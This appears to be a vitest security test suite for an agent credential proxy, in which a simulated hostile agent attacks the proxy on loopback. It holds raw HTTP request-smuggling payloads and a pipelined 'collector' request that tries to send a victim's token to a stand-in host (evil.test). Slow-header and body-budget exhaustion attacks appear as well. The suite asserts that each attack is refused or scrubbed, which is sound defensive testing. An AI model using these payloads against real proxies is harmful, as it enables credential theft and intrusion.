import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import type { Duplex } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { enrolledProxy, selfSignedPem } from "@strongroom/http-node/testing";
import { backendAvailable, backends, startApi, type TestApi } from "@strongroom/http-node/testing";
import { agentDispatcher, agentRequest } from "./helpers/agent-client.js";
import { startHostileUpstream, type HostileUpstream } from "./helpers/hostile-upstream.js";
import { closed, collect, openTunnel, parseResponses, TunnelRefused, type RawResponse } from "./helpers/raw-tunnel.js";
import { launchProxy, type RunningProxy } from "./helpers/running-proxy.js";
import { upstreamCertificates, type UpstreamCa } from "./helpers/upstream.js";
import { addAgent, ok, openSessionFor, seedWorld, type World } from "./helpers/world.js";

/**
 * The agent proxy against a hostile agent (issue 23): every attack goes through the real
 * `strongroom-agent-proxy` process with raw sockets or a real client, against upstreams on
 * loopback, on both server stores. Three proxies: `open` (any-host, default bounds), `tight`
 * (bundle-hosts, small time and count bounds) and `budget` (a small buffered-body budget).
 */
const VICTIM_TOKEN = "victim-bearer-token-0001";
// A quote, a slash, a plus and a non-ASCII letter: each surface and each echo encodes it differently.
const VICTIM_SUB = 'vsub"0002/é+=';
const PLACEHOLDER = "__SR_VICTIM_SUB__";
const BASIC_USER = "svc-robot";
const BASIC_PASS = "basic-pass-0003";
const SECRETS = { VICTIM_TOKEN, VICTIM_SUB, BASIC_USER, BASIC_PASS, PLAIN_KEY: "plain-key-0004" };
const INJECTED = [VICTIM_TOKEN, VICTIM_SUB, BASIC_PASS, `${BASIC_USER}:${BASIC_PASS}`, Buffer.from(`${BASIC_USER}:${BASIC_PASS}`).toString("base64")];

const KIB = 1024;
const TIGHT = { headerTimeoutMs: 800, bodyIdleTimeoutMs: 800, maxTunnelsPerSession: 4, maxRequestsPerSession: 6, deniedHostsPerMinute: 3 };
const BUDGET = { maxBufferedBodyBytes: 256 * KIB, bufferedBodyBudgetBytes: 640 * KIB };

/** Fails the test with `what` rather than hanging until vitest's own timeout. */
function within<T>(promise: Promise<T>, ms: number, what: string): Promise<T> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`${what}: not within ${ms} ms`)), ms);
    promise.then(
      (value) => (clearTimeout(timer), resolve(value)),
      (error: unknown) => (clearTimeout(timer), reject(error)),
    );
  });
}

async function until(condition: () => boolean, what: string, ms = 10_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`${what}: not within ${ms} ms`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** Sends raw bytes on a tunnel and reads the answers until the proxy closes it. */
async function exchange(socket: Duplex, bytes: string, methods: string[] = ["GET"]): Promise<RawResponse[]> {
  const answer = collect(socket);
  socket.write(bytes);
  return parseResponses(await within(answer, 15_000, "the proxy's answer"), methods);
}

/** Sends one request without closing, and resolves with its answer while the tunnel stays open. */
async function ask(socket: Duplex, bytes: string): Promise<RawResponse> {
  const answer = collect(socket, (got) => parseResponses(got).length > 0 && isComplete(got));
  socket.write(bytes);
  return parseResponses(await within(answer, 15_000, "the proxy's answer"))[0]!;
}

function isComplete(bytes: Buffer): boolean {
  const [response] = parseResponses(bytes);
  const length = Number(response?.headers["content-length"]?.[0] ?? NaN);
  return response !== undefined && (Number.isNaN(length) || response.body.length >= length);
}

const refusalOf = (error: unknown) => {
  if (!(error instanceof TunnelRefused)) throw error;
  return { status: error.status, body: JSON.parse(error.text.slice(error.text.indexOf("\r\n\r\n") + 4) || "{}") };
};

/**
 * Everything an agent could read out of a text by unwrapping it: JSON strings, base64 and
 * base64url runs at every alignment, percent- and form-decoding, two levels deep. The oracle is
 * independent of the proxy's own list of encodings.
 */
function readable(text: string, depth = 2): string[] {
  const found = [text];
  if (depth === 0) return found;
  const next: string[] = [];
  const attempt = (decode: () => string) => {
    try {
      next.push(decode());
    } catch {
      // not that encoding
    }
  };
  attempt(() => decodeURIComponent(text));
  attempt(() => decodeURIComponent(text.replaceAll("+", " ")));
  attempt(() => {
    const strings: string[] = [];
    const walk = (value: unknown): void => {
      if (typeof value === "string") strings.push(value);
      else if (value && typeof value === "object") Object.values(value).forEach(walk);
    };
    walk(JSON.parse(text));
    next.push(...strings);
    return "";
  });
  for (const run of text.match(/[A-Za-z0-9+/_-]{6,}/g) ?? []) {
    for (const pad of ["", "A", "AA", "AAA"]) {
      const bytes = Buffer.from(pad + run, "base64");
      next.push(bytes.toString("utf8"), bytes.toString("latin1"));
    }
  }
  for (const decoded of next) if (decoded && decoded !== text) found.push(...readable(decoded, depth - 1));
  return found;
}

/** Where in an answer an injected value can be read back, if anywhere. */
function leaks(response: RawResponse): string[] {
  const texts = [response.statusText, ...Object.values(response.headers).flat(), response.body.toString("utf8"), response.body.toString("latin1")];
  const found: string[] = [];
  for (const text of texts) {
    for (const decoded of readable(text)) {
      for (const secret of INJECTED) {
        if (decoded.includes(secret) || decoded.includes(Buffer.from(secret, "utf8").toString("latin1"))) found.push(`${secret} in ${text.slice(0, 80)}`);
      }
    }
  }
  return [...new Set(found)];
}

describe.each(backends)("the agent proxy against a hostile agent, on %s", (backend) => {
  let api: TestApi;
  let certificates: UpstreamCa;
  let a: HostileUpstream; // brokered: Bearer token + placeholder substitution
  let b: HostileUpstream; // brokered: Basic
  let plain: HostileUpstream; // plain http
  let world: World<"victim" | "basic" | "plain">;
  let attacker: { bot: { token: string }; bundleId: string };
  let open: RunningProxy;
  let tight: RunningProxy;
  let budget: RunningProxy;
  let available = true;
  const maybe = (name: string, test: () => Promise<void>, timeout?: number) => it(name, async () => (available ? test() : undefined), timeout);
  const victimSession = () => openSessionFor(api, world.bot, world.bundleId);
  const attackerSession = () => openSessionFor(api, attacker.bot, attacker.bundleId);
  const at = (upstream: HostileUpstream) => `127.0.0.1:${upstream.port}`;

  beforeAll(async () => {
    available = await backendAvailable(backend);
    if (!available) return;
    api = await startApi(backend);
    certificates = await upstreamCertificates();
    a = await startHostileUpstream(certificates);
    b = await startHostileUpstream(certificates);
    plain = await startHostileUpstream(null);
    world = await seedWorld(api, SECRETS, {
      victim: {
        hostPattern: at(a),
        credentials: [
          { headerName: "Authorization", headerPrefix: "Bearer", secretKey: "VICTIM_TOKEN" },
          { placeholderKey: "VICTIM_SUB", placeholderValue: PLACEHOLDER, substitutionSurfaces: ["header", "query", "body"], secretKey: "VICTIM_SUB" },
        ],
      },
      basic: {
        hostPattern: at(b),
        credentials: [
          { headerPurpose: "username", secretKey: "BASIC_USER" },
          { headerPurpose: "password", secretKey: "BASIC_PASS" },
        ],
      },
      plain: { hostPattern: at(plain), credentials: [{ headerName: "X-Plain", secretKey: "PLAIN_KEY" }] },
    });
    attacker = await addAgent(api, world, "attacker", [world.services.plain.id]);
    [open, tight, budget] = await Promise.all([
      launchProxy(api, world.admin, certificates.certificatePem, { name: "open", pollInterval: 300 }),
      launchProxy(api, world.admin, certificates.certificatePem, { name: "tight", trafficPolicy: "bundle-hosts", pollInterval: 300 }, TIGHT),
      launchProxy(api, world.admin, certificates.certificatePem, { name: "budget", pollInterval: 300 }, BUDGET),
    ]);
    // Three proxy processes start from source: on a busy machine that takes a while.
  }, 180_000);

  afterAll(async () => {
    for (const proxy of [open, tight, budget]) await proxy?.stop();
    for (const upstream of [a, b, plain]) await upstream?.close();
    await api?.close();
  });

  describe("1. no request smuggling", () => {
    const SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: evil.test\r\nX-Marker: smuggled\r\n\r\n";
    const METHODS = ["GET", "HEAD", "DELETE", "OPTIONS", "POST", "PUT", "PATCH"];
    const variants = {
      "content-length": (method: string, path: string, host: string) =>
        `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close, content-length\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
      "transfer-encoding": (method: string, path: string, host: string) =>
        `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close, transfer-encoding\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`,
      host: (method: string, path: string, host: string) =>
        `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close, host\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
    };

    maybe("a body on any method stays that request's body, whatever Connection lists", async () => {
      const session = await attackerSession();
      for (const method of METHODS) {
        for (const [variant, build] of Object.entries(variants)) {
          const tunnel = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(a), ca: open.ca });
          const path = `/framing/${method}/${variant}`;
          const [answer] = await exchange(tunnel, build(method, path, "evil.test"), [method]);
          expect(answer?.status, `${method} ${variant}`).toBe(200);
          const seen = a.seen.filter((entry) => entry.url === path);
          expect(seen, `${method} ${variant}`).toHaveLength(1);
          expect(seen[0]).toMatchObject({ body: SMUGGLED, complete: true });
          expect(seen[0]!.headers.host).toBe(at(a));
        }
      }
      expect(a.seen.filter((entry) => entry.url === "/smuggled" || entry.headers.host === "evil.test")).toEqual([]);
    });

    maybe("refuses framing two readers could disagree on", async () => {
      const session = await attackerSession();
      const tunnel = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(a), ca: open.ca });
      const before = a.seen.length;
      // Node's own parser rejects most (CL with TE, differing lengths); a coding other than chunked reaches the proxy.
      const [answer] = await exchange(tunnel, `POST /gz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n`);
      expect(answer?.status).toBe(400);
      expect(a.seen.length).toBe(before);
    });

    maybe("two sessions never share an upstream connection: the victim's credential never reaches the attacker's virtual host", async () => {
      const [thief, victim] = await Promise.all([attackerSession(), victimSession()]);
      const collector = "POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Type: text/plain\r\nContent-Length: 600\r\n\r\nstolen=";
      const pipelined =
        `GET /a1 HTTP/1.1\r\nHost: ${at(a)}\r\nX-Agent: attacker\r\nConnection: content-length\r\nContent-Length: ${collector.length}\r\n\r\n${collector}` +
        `GET /a2 HTTP/1.1\r\nHost: ${at(a)}\r\nX-Agent: attacker\r\nConnection: close\r\n\r\n`;
      const tunnel = await openTunnel({ proxyUrl: open.url, token: thief.token, authority: at(a), ca: open.ca });
      const attack = exchange(tunnel, pipelined, ["GET", "GET"]);
      const dispatcher = agentDispatcher({ proxyUrl: open.url, proxyAuthorization: `Bearer ${victim.token}`, proxyCa: open.ca });
      const victims = await Promise.all(
        Array.from({ length: 6 }, (_, i) => agentRequest(dispatcher, `${a.origin}/victim/${i}`, { headers: { "x-agent": "victim" } })),
      );
      await dispatcher.close();
      expect(victims.map((answer) => answer.status)).toEqual(Array(6).fill(200));
      expect((await attack).map((answer) => answer.status)).toEqual([200, 200]);

      const attackerConnections = new Set(a.seen.filter((entry) => entry.headers["x-agent"] === "attacker").map((entry) => entry.connection));
      expect(attackerConnections.size).toBeGreaterThan(0);
      for (const id of attackerConnections) expect(a.raw.get(id)).not.toContain(VICTIM_TOKEN);
      const victimSeen = a.seen.filter((entry) => entry.headers["x-agent"] === "victim");
      expect(victimSeen).toHaveLength(6);
      for (const entry of victimSeen) {
        expect(entry.headers.authorization).toBe(`Bearer ${VICTIM_TOKEN}`);
        expect(attackerConnections.has(entry.connection)).toBe(false);
      }
      expect(a.seen.filter((entry) => entry.url === "/collect" || entry.headers.host === "evil.test")).toEqual([]);
    });

    maybe("does not reuse an upstream connection that answered before the request was sent", async () => {
      const session = await victimSession();
      const tunnel = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(b), ca: open.ca });
      // The upstream answers /early at once; the body follows afterwards.
      const early = await ask(tunnel, `POST /early HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n`);
      expect(early.status).toBe(200);
      tunnel.write("0123456789");
      await until(() => b.seen.some((entry) => entry.url === "/early" && entry.complete), "the early body");
      const after = await ask(tunnel, `GET /after-early HTTP/1.1\r\nHost: x\r\n\r\n`);
      expect(after.status).toBe(200);
      const earlyOn = b.seen.find((entry) => entry.url === "/early")!.connection;
      expect(b.seen.find((entry) => entry.url === "/after-early")!.connection).not.toBe(earlyOn);
      tunnel.destroy();
    });
  });

  describe("2. inside a tunnel, only origin-form", () => {
    maybe("refuses absolute URLs, authorities and network-path targets with 400 and forwards nothing", async () => {
      const session = await victimSession();
      const before = a.seen.length;
      for (const [method, target] of [
        ["GET", "https://evil.test/steal"],
        ["GET", `http://${at(a)}/steal`],
        ["GET", `https://${PLACEHOLDER}.evil.test/steal`],
        ["GET", "//evil.test/steal"],
        ["OPTIONS", "*"],
      ]) {
        const tunnel = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(a), ca: open.ca });
        const [answer] = await exchange(tunnel, `${method} ${target} HTTP/1.1\r\nHost: ${at(a)}\r\nConnection: close\r\n\r\n`, [method!]);
        expect(answer?.status, target).toBe(400);
        expect(JSON.parse(answer!.body.toString())).toMatchObject({ reason: "invalid-request-target" });
      }
      expect(a.seen.length).toBe(before);
    });
  });

  describe("3. reflection", () => {
    maybe("an echoing upstream hands no injected value back, in any encoding, whole, dripped or compressed", async () => {
      const session = await victimSession();
      for (const mode of ["plain", "drip", "gzip"]) {
        const body = JSON.stringify({ secret: PLACEHOLDER, note: "kept" });
        const requests: [HostileUpstream, string][] = [
          [a, `POST /echo?mode=${mode}&q=${PLACEHOLDER} HTTP/1.1\r\nHost: x\r\nX-Token: t ${PLACEHOLDER}\r\nContent-Type: application/json\r\nAccept-Encoding: gzip\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`],
          [b, `GET /echo?mode=${mode} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`],
        ];
        for (const [upstream, request] of requests) {
          const tunnel = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(upstream), ca: open.ca });
          const [answer] = await exchange(tunnel, request);
          expect(answer?.status, mode).toBe(200);
          // The upstream did get the values: the scrubbing is what keeps them from the agent.
          const seen = upstream.seen.at(-1)!;
          expect(seen.headers.authorization).toBe(upstream === a ? `Bearer ${VICTIM_TOKEN}` : `Basic ${INJECTED[4]}`);
          expect(leaks(answer!), `${mode} via ${upstream === a ? "a" : "b"}`).toEqual([]);
          // Still a usable answer: same structure, values masked.
          const echoed = JSON.parse(answer!.body.toString("utf8"));
          expect(answer!.headers["content-encoding"]).toBeUndefined();
          if (upstream === a) expect(JSON.parse(echoed.body)).toMatchObject({ note: "kept" });
        }
      }
    });
  });

  describe("4. bounded by design", () => {
    maybe("slow headers get 408 and are closed: outside, in a plain tunnel, inside TLS, and before TLS starts", async () => {
      const session = await attackerSession();
      const { hostname, port } = new URL(tight.url);
      const outside = await new Promise<Duplex>((resolve) => {
        const socket = connect(Number(port), hostname, () => resolve(socket));
      });
      const plainTunnel = await openTunnel({ proxyUrl: tight.url, token: session.token, authority: at(plain) });
      const victim = await victimSession();
      const tlsTunnel = await openTunnel({ proxyUrl: tight.url, token: victim.token, authority: at(a), ca: tight.ca });
      const silent = await openTunnel({ proxyUrl: tight.url, token: session.token, authority: at(plain) });
      const answers = [outside, plainTunnel, tlsTunnel].map((socket) => collect(socket));
      for (const socket of [outside, plainTunnel, tlsTunnel]) socket.write("GET / HTTP/1.1\r\nHost: slow\r\n");
      for (const [index, answer] of answers.entries()) {
        const [response] = parseResponses(await within(answer, 10_000, `slow headers #${index}`));
        expect(response?.status, `#${index}`).toBe(408);
      }
      await within(closed(silent), 10_000, "a tunnel that never speaks");
      // Meanwhile everyone else is served.
      const fresh = await openTunnel({ proxyUrl: tight.url, token: session.token, authority: at(plain) });
      expect((await exchange(fresh, `GET /still HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`))[0]?.status).toBe(200);
    });

    maybe("a body left idle gets 408 and its upstream request is abandoned, streamed or buffered", async () => {
      const [thief, victim] = await Promise.all([attackerSession(), victimSession()]);
      // Each request follows its CONNECT at once: the tunnel's header clock is already running.
      const streamed = await openTunnel({ proxyUrl: tight.url, token: thief.token, authority: at(plain) });
      const streamedAnswer = collect(streamed);
      streamed.write(`POST /held-stream HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n0123456789`);
      const buffered = await openTunnel({ proxyUrl: tight.url, token: victim.token, authority: at(a), ca: tight.ca });
      const bufferedAnswer = collect(buffered);
      buffered.write(`POST /held-buffer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"k":"${PLACEHOLDER}"`);
      for (const [index, answer] of [streamedAnswer, bufferedAnswer].entries()) {
        const [response] = parseResponses(await within(answer, 10_000, `held body #${index}`));
        expect(response?.status).toBe(408);
        expect(JSON.parse(response!.body.toString())).toMatchObject({ reason: "body-timeout" });
      }
      await until(() => plain.seen.find((entry) => entry.url === "/held-stream")?.aborted === true, "the streamed upstream request abandoned");
      expect(a.seen.some((entry) => entry.url === "/held-buffer")).toBe(false);
    });

    maybe("buffered bodies share one budget: past it 503, and other agents are still served", async () => {
      const sessions = await Promise.all([victimSession(), victimSession()]);
      const size = 200 * KIB;
      const holders: Duplex[] = [];
      const answers: { done: boolean; bytes: Promise<Buffer> }[] = [];
      for (let i = 0; i < 5; i++) {
        const tunnel = await openTunnel({ proxyUrl: budget.url, token: sessions[i % 2]!.token, authority: at(a), ca: budget.ca });
        const answer = { done: false, bytes: collect(tunnel) };
        void answer.bytes.then(() => (answer.done = true));
        answers.push(answer);
        // One byte short: the proxy holds the body, waiting for the rest.
        tunnel.write(`POST /hold-${i} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: ${size}\r\nConnection: close\r\n\r\n${PLACEHOLDER}${"x".repeat(size - PLACEHOLDER.length - 1)}`);
        holders.push(tunnel);
      }
      // 640 KiB hold three bodies of 200 KiB; two requests cross the budget, whichever their chunks came last.
      await until(() => answers.filter((answer) => answer.done).length >= 2, "two refusals", 15_000);
      const refused = answers.flatMap((answer, index) => (answer.done ? [index] : []));
      for (const index of refused) {
        const [response] = parseResponses(await answers[index]!.bytes);
        expect(response?.status).toBe(503);
        expect(JSON.parse(response!.body.toString())).toMatchObject({ reason: "body-budget-exhausted" });
      }
      const other = await attackerSession();
      const served = await openTunnel({ proxyUrl: budget.url, token: other.token, authority: at(plain) });
      expect((await exchange(served, `GET /served HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`))[0]?.status).toBe(200);
      // The other three were held, not refused: their last byte completes them.
      const held = [0, 1, 2, 3, 4].filter((index) => !refused.includes(index));
      expect(held).toHaveLength(3);
      for (const index of held) holders[index]!.write("x");
      for (const index of held) expect(parseResponses(await within(answers[index]!.bytes, 10_000, "a held body"))[0]?.status).toBe(200);
      expect(a.seen.filter((entry) => entry.url.startsWith("/hold-")).map((entry) => entry.url).sort()).toEqual(held.map((index) => `/hold-${index}`));
      // Their bytes are given back: the whole budget is there again.
      const again = await Promise.all(
        [0, 1, 2].map(async (i) => {
          const tunnel = await openTunnel({ proxyUrl: budget.url, token: sessions[0]!.token, authority: at(a), ca: budget.ca });
          const body = `${PLACEHOLDER}${"y".repeat(size - PLACEHOLDER.length)}`;
          return (await exchange(tunnel, `POST /after-budget-${i} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: ${size}\r\nConnection: close\r\n\r\n${body}`))[0]?.status;
        }),
      );
      expect(again).toEqual([200, 200, 200]);
    });

    maybe("a session has at most its tunnels open and its requests in progress; sockets stay within that", async () => {
      const session = await victimSession();
      const tunnels: Duplex[] = [];
      for (let i = 0; i < TIGHT.maxTunnelsPerSession; i++) {
        const tunnel = await openTunnel({ proxyUrl: tight.url, token: session.token, authority: at(a), ca: tight.ca });
        tunnel.write(`GET /hang HTTP/1.1\r\nHost: x\r\n\r\n`);
        tunnels.push(tunnel);
      }
      await until(() => a.hanging === TIGHT.maxTunnelsPerSession, "the tunnels' requests upstream");
      const busy = tight.openFds();
      for (let i = 0; i < 12; i++) {
        const refusal = await openTunnel({ proxyUrl: tight.url, token: session.token, authority: at(a), ca: tight.ca }).then(() => null, refusalOf);
        expect(refusal).toMatchObject({ status: 429, body: { reason: "too-many-tunnels" } });
      }
      await until(() => tight.openFds() <= busy + 2, "refused sockets closed");
      // Another agent is unaffected.
      const other = await attackerSession();
      const served = await openTunnel({ proxyUrl: tight.url, token: other.token, authority: at(plain) });
      expect((await exchange(served, `GET /other HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`))[0]?.status).toBe(200);
      a.release();
      for (const tunnel of tunnels) tunnel.destroy();

      // Pipelined requests count too: only maxRequestsPerSession reach the upstream at once.
      const pipeline = await openTunnel({ proxyUrl: tight.url, token: other.token, authority: at(plain) });
      const answer = collect(pipeline);
      pipeline.write(Array.from({ length: 8 }, (_, i) => `GET /hang?${i} HTTP/1.1\r\nHost: x\r\n${i === 7 ? "Connection: close\r\n" : ""}\r\n`).join(""));
      await until(() => plain.hanging === TIGHT.maxRequestsPerSession, "the allowed requests upstream");
      plain.release();
      const statuses = parseResponses(await within(answer, 10_000, "the pipelined answers")).map((response) => response.status);
      expect(statuses).toEqual([200, 200, 200, 200, 200, 200, 429, 429]);
      expect(plain.seen.filter((entry) => /^\/hang\?[67]$/.test(entry.url))).toEqual([]);
    });

    maybe("a denied host gets its 403 inside the tunnel for a few new hosts a minute, then the CONNECT itself is refused", async () => {
      const [session, other] = await Promise.all([attackerSession(), victimSession()]);
      const inside = async (token: string, host: string) => {
        const tunnel = await openTunnel({ proxyUrl: tight.url, token, authority: `${host}:443`, ca: tight.ca });
        const [answer] = await exchange(tunnel, `GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
        return { status: answer!.status, body: JSON.parse(answer!.body.toString()) };
      };
      for (let i = 1; i <= TIGHT.deniedHostsPerMinute; i++) {
        expect(await inside(session.token, `denied-${i}.test`)).toMatchObject({ status: 403, body: { reason: "host-not-allowed" } });
      }
      for (const host of ["denied-4.test", "denied-5.test"]) {
        const refusal = await openTunnel({ proxyUrl: tight.url, token: session.token, authority: `${host}:443`, ca: tight.ca }).then(() => null, refusalOf);
        expect(refusal).toMatchObject({ status: 403, body: { reason: "host-not-allowed", host } });
      }
      // A host already admitted keeps its answer; another session has its own allowance.
      expect((await inside(session.token, "denied-1.test")).status).toBe(403);
      expect((await inside(other.token, "denied-4.test")).body).toMatchObject({ reason: "host-not-allowed" });
      expect(tight.lines().filter((line) => line.error === "denied-host-limit" && line.session === session.id)).toHaveLength(2);
    });

    maybe("unknown tokens neither clear the decisions nor poll more than once a gap", async () => {
      const session = await victimSession();
      const dispatcher = agentDispatcher({ proxyUrl: open.url, proxyAuthorization: `Bearer ${session.token}`, proxyCa: open.ca });
      expect((await agentRequest(dispatcher, `${a.origin}/warm`)).status).toBe(200);
      const resolves = () => api.logs.filter((line) => line.includes('"route":"/api/v1/agent-vault/proxy/resolve"')).length;
      const polls = () => api.logs.filter((line) => line.includes('"route":"/api/v1/agent-vault/proxy/config"')).length;
      const [resolvedBefore, polledBefore, started] = [resolves(), polls(), Date.now()];
      const refusals = await Promise.all(
        Array.from({ length: 30 }, () => openTunnel({ proxyUrl: open.url, token: `agv_${randomBytes(32).toString("base64url")}`, authority: at(a) }).then(() => null, refusalOf)),
      );
      expect(refusals.every((refusal) => refusal?.status === 403)).toBe(true);
      const seconds = Math.ceil((Date.now() - started) / 1000);
      expect(polls() - polledBefore).toBeLessThanOrEqual(seconds + 1);
      expect((await agentRequest(dispatcher, `${a.origin}/warm-again`)).status).toBe(200);
      await dispatcher.close();
      expect(resolves()).toBe(resolvedBefore);
    });
  });

  describe("5. revocation cuts in-flight use", () => {
    maybe("revoking a session cuts its upload in flight and refuses its idle tunnel", async () => {
      const session = await victimSession();
      const idle = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(b), ca: open.ca });
      expect((await ask(idle, `GET /before-revoke HTTP/1.1\r\nHost: x\r\n\r\n`)).status).toBe(200);
      const upload = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(b), ca: open.ca });
      const size = 1024 * KIB;
      upload.write(`POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: ${size}\r\n\r\n${"u".repeat(64 * KIB)}`);
      await until(() => (b.seen.find((entry) => entry.url === "/upload")?.body.length ?? 0) >= 64 * KIB, "the upload under way");
      expect(b.seen.find((entry) => entry.url === "/upload")!.headers.authorization).toBe(`Basic ${INJECTED[4]}`);

      await ok(api.request("DELETE", `/api/v1/agent-vault/sessions/${session.id}`, { token: world.bot.token }));
      await open.pollUntilEnded(session.id);
      await within(closed(upload), 10_000, "the upload cut");
      await until(() => b.seen.find((entry) => entry.url === "/upload")!.aborted, "the upstream upload abandoned");
      expect(b.seen.find((entry) => entry.url === "/upload")).toMatchObject({ complete: false });
      const refused = await ask(idle, `GET /after-revoke HTTP/1.1\r\nHost: x\r\n\r\n`);
      expect(refused.status).toBe(403);
      expect(JSON.parse(refused.body.toString())).toMatchObject({ reason: "session-not-live" });
      expect(b.seen.some((entry) => entry.url === "/after-revoke")).toBe(false);
      const again = await openTunnel({ proxyUrl: open.url, token: session.token, authority: at(b), ca: open.ca }).then(() => null, refusalOf);
      expect(again).toMatchObject({ status: 403 });
      expect(open.lines().find((line) => line.msg === "sessions ended" && line.sessions.includes(session.id))).toMatchObject({ cutRequests: 1 });
    });
  });

  describe("6. the server side", () => {
    maybe("a proxy token resolves only sessions of its own organization, and of itself when bound", async () => {
      const session = await victimSession();
      const resolve = (proxyToken: string, sessionToken: string) =>
        api.request("POST", "/api/v1/agent-vault/proxy/resolve", { token: proxyToken, body: { sessionToken, host: "127.0.0.1", port: a.port, tls: true } });
      const sibling = await enrolledProxy(api, world.admin, { name: "sibling" });
      expect((await resolve(sibling.accessToken, session.token)).body.decision).toMatchObject({ action: "broker" });

      // A proxy of another organization, enrolled by that organization's admin.
      const org = await ok(api.request("POST", "/api/v2/organizations", { token: world.ownerToken, body: { name: "Elsewhere" } }));
      const registered = await ok(
        api.request("POST", `/api/v1/agent-vault/proxies?organizationId=${org.organization.id}`, { token: world.ownerToken, body: { name: "foreign" } }),
      );
      const foreign = await ok(
        api.request("POST", "/api/v1/agent-vault/proxy/enroll", { body: { enrollmentToken: registered.token, rootCaCertificate: selfSignedPem(api.clock.now()) } }),
      );
      expect((await resolve(foreign.accessToken, session.token)).status).toBe(404);

      const bound = await ok(api.request("POST", "/api/v1/agent-vault/sessions", { token: world.bot.token, body: { bundleId: world.bundleId, proxyId: open.id } }));
      expect((await resolve(sibling.accessToken, bound.token)).status).toBe(404);
    });
  });
});
